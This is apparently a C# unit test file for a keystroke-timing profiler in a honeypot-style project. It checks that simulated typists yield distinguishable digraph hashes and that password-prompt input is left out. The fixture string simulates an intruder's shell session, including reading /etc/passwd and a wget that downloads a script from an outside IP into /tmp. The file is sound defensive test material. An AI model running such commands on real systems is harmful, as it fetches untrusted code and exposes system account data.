using Decnet.Profiler.Typing;

namespace Decnet.Profiler.Tests;

public sealed class TypingHashTests
{
    private const string Text = "cd /var/www && ls -la\rcat /etc/passwd | grep root\rps aux | head\rnetstat -tlpn\rwget http://203.0.113.9/a.sh -O /tmp/a\r";

    [Fact]
    public void One_hand_is_nearer_to_itself_than_to_another()
    {
        var hands = Enumerable.Range(1, 12).Select(hand => (First: Hash(hand, 1), Second: Hash(hand, 2))).ToList();
        var own = hands.Average(hand => TypingHash.Distance(hand.First, hand.Second));
        var others = hands.SelectMany(one => hands.Where(other => other != one).Select(other => TypingHash.Distance(one.First, other.Second))).Average();

        Assert.InRange(own, 0, 12);
        Assert.InRange(others, own + 6, 40);
    }

    [Fact]
    public void The_distance_to_oneself_is_zero() => Assert.Equal(0, TypingHash.Distance(Hash(1, 1), Hash(1, 1)));

    [Fact]
    public void Few_pairs_give_no_hash() => Assert.Null(new Typist().Type("ls -la\r", 90).Profile().KdDigraphSimhash);

    [Fact]
    public void What_is_typed_at_a_password_prompt_has_no_part_in_it()
    {
        Assert.Null(new Typist().Type("correcthorsebattery\r", 90, noEcho: true).Profile().KdDigraphSimhash);
    }

    // A hand has its own time for each pair of keys; a day adds a little noise to it.
    private static byte[] Hash(int hand, int day)
    {
        var noise = new Random((hand * 100) + day);
        var typist = new Typist().Key(Text[..1]);
        for (var i = 1; i < Text.Length; i++)
        {
            var own = new Random((hand * 65_536 * 7) + (Text[i - 1] * 256) + Text[i]).NextDouble();
            typist.Key(Text[i..(i + 1)], (60 + (300 * own)) * (0.92 + (0.16 * noise.NextDouble())));
        }

        return typist.Profile().KdDigraphSimhash!;
    }
}
